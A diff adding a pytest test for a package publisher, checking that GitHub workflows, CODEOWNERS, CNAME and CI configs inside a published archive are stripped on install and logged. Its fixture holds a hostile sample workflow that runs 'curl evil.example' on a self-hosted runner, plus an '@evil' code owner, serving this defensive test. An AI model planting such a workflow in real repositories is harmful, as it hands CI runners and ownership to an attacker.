@@ -18,7 +18,9 @@ from tests.publishers.github_world import (
     SAMPLE,
     TOKEN,
     World,
+    archive_request,
     github_world,
+    published,
     zipped,
 )
 
@@ -75,6 +77,33 @@ def test_nothing_of_a_package_acts_in_a_clone(world: World) -> None:
     message = world.git("log", "-1", "--format=%B", "hostile")
     for left_out in (".git/hooks/post-checkout", ".gitmodules", "sub/.gitattributes"):
         assert f"- '{left_out}': " in message
+
+
+def test_a_source_with_workflows_is_installed_without_them(world: World) -> None:
+    workflow = b"on: push\njobs: {a: {runs-on: self-hosted, steps: [{run: curl evil.example}]}}\n"
+    acting = {
+        ".github/workflows/push.yml": workflow,
+        ".GITHUB/actions/a/action.yml": b"runs: {}\n",
+        ".github/dependabot.yml": b"version: 2\n",
+        "CODEOWNERS": b"* @evil\n",
+        "docs/CNAME": b"evil.example\n",
+        ".circleci/config.yml": b"version: 2\n",
+    }
+    files = {**SAMPLE, **{f"sample-master/{name}": content for name, content in acting.items()}}
+    package = world.archive("sample", files)
+    publisher = world.publisher()
+    publisher.publish(package)
+
+    done = world.notebook(publisher.offer(archive_request("sample"), [published(package)]))
+
+    assert done.returncode == 0, done.stderr
+    assert (world.site / "sample.py").is_file()
+    assert world.files("sample") == sorted(
+        [".packages/sample.zip", *(name.partition("/")[2] for name in SAMPLE)]
+    )
+    assert world.content("sample", ".packages/sample.zip") == package.files[0].path.read_bytes()
+    message = world.git("log", "-1", "--format=%B", "sample")
+    assert all(f"- '{name}': " in message for name in acting)
 
 
 def test_strange_names_and_bytes_arrive_as_they_are_and_never_executable(world: World) -> None:
